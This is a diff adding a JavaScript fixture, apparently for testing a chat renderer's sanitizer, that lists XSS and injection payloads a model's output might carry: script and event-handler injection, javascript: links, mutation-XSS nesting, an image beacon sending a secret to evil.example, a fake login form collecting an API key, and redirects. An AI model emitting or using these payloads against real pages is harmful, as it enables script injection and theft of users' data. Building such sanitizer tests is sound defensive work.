@@ -1,0 +1,21 @@
+// What a model might be made to write to get at whoever reads it.
+export const hostile = [
+  '<script>window.pwned = 1</script>',
+  '<img src=x onerror="window.pwned = 2">',
+  '<svg onload="window.pwned = 3"><script>window.pwned = 3</script></svg>',
+  '[click](javascript:window.pwned=4) [data](data:text/html,<script>window.pwned=4</script>)',
+  '![picture](https://evil.example/steal?q=secret)',
+  '<iframe src="javascript:window.pwned = 5"></iframe><object data="https://evil.example"></object>',
+  '<a href="jav&#x09;ascript:window.pwned=6">x</a> <a href=" javascript:window.pwned=6">y</a>',
+  '<math><mtext><table><mglyph><style><img src=x onerror="window.pwned = 7"></style></mglyph></table></mtext></math>',
+  '<form action="https://evil.example"><input name="api_key"><button>Log in</button></form>',
+  '<style>body { background: url(https://evil.example/style) }</style><link rel="stylesheet" href="https://evil.example/x.css">',
+  '$\\href{javascript:window.pwned=8}{x}$ $\\class{"><img src=x onerror=window.pwned=8>}{y}$ $\\includegraphics{https://evil.example/tex}$',
+  '```"><img src=x onerror=window.pwned=9>\n</code></pre><script>window.pwned=9</script>\n```',
+  '| a |\n|---|\n| <img src=x onerror="window.pwned = 10"> |',
+  '<https://evil.example/"onmouseover="window.pwned=11">',
+  '[a][ref]\n\n[ref]: javascript:window.pwned=12 "<img src=x onerror=window.pwned=12>"',
+  '<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example">',
+  '<details open ontoggle="window.pwned = 13"><summary>x</summary></details>',
+  '<div id="composer" style="position:fixed;inset:0;background:red">over everything</div>',
+].join('\n\n');
